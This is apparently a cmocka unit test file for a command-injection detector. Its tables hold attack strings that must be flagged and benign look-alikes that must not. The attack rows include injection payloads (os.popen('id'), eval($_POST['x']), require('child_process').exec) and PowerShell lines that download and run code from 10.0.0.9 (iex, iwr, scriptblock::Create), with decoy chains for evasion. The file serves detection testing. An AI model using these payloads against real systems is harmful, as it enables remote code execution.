/* test_payload_rtc7.c - issue 20, helper c (session 29): command
 * injection rows of the open items (note19, rev7: a blank before '(',
 * scriptblocks, decoys ahead of a call) and of a fresh table's misses, one
 * test per construct. Attacks must draw cmd_injection as a query value
 * and as a form body, and reach the kill line as a query value; benign
 * rows draw nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* a code call with a blank before '(' on a module's name or a chain's
 * method (os.popen ( 'whoami'), Runtime.getRuntime().exec ("id")) */
static void test_cmdi_call_blank_names(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"os.popen ( 'whoami')", C},
		{"os.popen ('id').read()", C},
		{"Runtime.getRuntime().exec (\"id\")", C},
		{"Runtime.getRuntime().exec ( 'uname -a')", C},
		{"os.execute(\"id\")", C},
		{"io.popen('whoami'):read('*a')", C},
		{"Open3.capture2('id')", C},
		{"new ProcessBuilder(\"id\").start()", C},
		{"new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"id\"}).start()", C},
		{"java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})", C},
		{"new ProcessBuilder(\"git\", \"status\").start()", N},
		{"os.popen is deprecated since Python 2.6", N},
		{"use io.popen only for trusted input", N},
	};
	rt_run_kill("cmdi-call-blank-names", C, t, sizeof(t) / sizeof(t[0]));
}

/* decoys ahead of the call: every occurrence is looked at, none of the
 * rules gives up after a count */
static void test_cmdi_decoys_first(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"system(1);system('id')", C},
		{"system (1);system (2);system (3);system (4);system (5);system (6);system (7);system (8);"
		 "system (9);system ('id')",
		 C},
		{"exec (1);exec (2);exec (3);exec (4);exec (5);exec (6);exec (7);exec (8);exec (9);os.popen ('id')", C},
		{"&(a)&(b)&(c)&(d)&(e)&(f)&(g)&(h)&(i)&(j)&(k)&(l)&(m)&(n)&(o)&(p)&(q)&(gcm i*x)(iwr http://10.0.0.9/p)", C},
		{"iex(1);iex(2);iex(3);iex(4);iex(5);iex(6);iex(7);iex(8);iex(9);iex (iwr http://10.0.0.9/p)", C},
		{"&( &(gcm i*x)(iwr http://10.0.0.9/p)", C},
	};
	rt_run_kill("cmdi-decoys-first", C, t, sizeof(t) / sizeof(t[0]));
}

/* PowerShell's script block made from a string and run: by the call
 * operator or its Invoke method */
static void test_cmdi_ps_scriptblock(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"&([scriptblock]::Create((iwr http://10.0.0.9/p)))", C},
		{"&([scriptblock]::Create(\"calc\"))", C},
		{".( [ScriptBlock]::Create('whoami'))", C},
		{"[ScriptBlock]::Create(\"whoami\").Invoke()", C},
		{"iex ([scriptblock]::create($x))", C},
		{"Use [scriptblock]::Create() to build a script block from a string", N},
	};
	rt_run_kill("cmdi-ps-scriptblock", C, t, sizeof(t) / sizeof(t[0]));
}

/* code that runs a command as eval-based injections write it: Node's
 * child_process with a method called, Python's __import__ used, PHP's
 * callbacks given a command function, PHP sinks given request input */
static void test_cmdi_lang_code(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"require('child_process').exec('id')", C},
		{"require(\"child_process\") . execSync (\"whoami\")", C},
		{"__import__('subprocess').check_output(['id'])", C},
		{"getattr(__import__('os'),'system')('id')", C},
		{"en_US\";__import__('os').popen('id').read()#", C},
		{"array_map('system',array('id'))", C},
		{"call_user_func('passthru','whoami')", C},
		{"usort($_GET,'system')", C},
		{"';assert($_REQUEST[c]);//", C},
		{"eval($_POST['x'])", C},
		{"require('child_process') is only allowed in build scripts", N},
		{"Consider __import__ only for dynamic plugins", N},
		{"array_map('trim', $lines)", N},
		{"call_user_func('system_info', $id)", N},
	};
	rt_run_kill("cmdi-lang-code", C, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmdi_call_blank_names),
		cmocka_unit_test(test_cmdi_decoys_first),
		cmocka_unit_test(test_cmdi_ps_scriptblock),
		cmocka_unit_test(test_cmdi_lang_code),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
